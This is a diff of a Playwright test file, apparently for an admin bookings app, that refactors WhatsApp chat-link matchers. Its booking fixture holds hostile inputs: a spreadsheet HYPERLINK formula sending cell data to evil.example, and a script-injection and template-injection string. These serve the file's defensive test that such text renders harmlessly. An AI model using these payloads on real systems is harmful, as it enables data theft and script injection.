@@ -17,9 +17,15 @@ const BOOKING = {
   flavourPreferences: '=HYPERLINK("https://evil.example?"&A1,"mint")',
   specialRequirements: '</dd></textarea><script>window.harmed=1</script>{{7*7}}${7*7}',
 };
-const CHAT = expect.stringMatching(
-  /^https:\/\/wa\.me\/447700900123\?text=Hello%20[-\w.%]*$/,
-) as unknown as string;
+/** A chat that begins with name and reference, each encoded. */
+const chat = (rest: string) =>
+  expect.stringMatching(
+    new RegExp(
+      `^https://wa\\.me/447700900123\\?text=${encodeURIComponent(`Hello ${PERSON.firstName}, this is Finesse`)}${rest}$`,
+    ),
+  ) as unknown as string;
+const CHAT = chat('%20about%20F-\\w{6}\\.%20');
+const MEMBER_CHAT = chat('\\.%20');
 const PAGE = expect.stringMatching(/^\/admin\/bookings\/[-0-9a-f]{36}$/) as unknown as string;
 const MAP = `https://www.google.com/maps/search/?api=1&query=${encodeURIComponent(BOOKING.location)}`;
 
@@ -123,7 +129,7 @@ test('hostile text: a member’s is harmless in the list and the history, and a 
   await page.goto(`/admin?tab=members&q=${encodeURIComponent(email)}`);
   const row = page.getByRole('row').filter({ hasText: PERSON.firstName });
   await typed(row, [PERSON.lastName, PERSON.phone, PERSON.instagram, email]);
-  expect(await hrefs(row)).toEqual([link, 'tel:+447700900123', CHAT]);
+  expect(await hrefs(row)).toEqual([link, 'tel:+447700900123', MEMBER_CHAT]);
   await row.getByRole('button', { name: 'History' }).click();
   await typed(page.getByRole('dialog'), [PERSON.firstName, PERSON.lastName]);
   await expectHarmless(page);
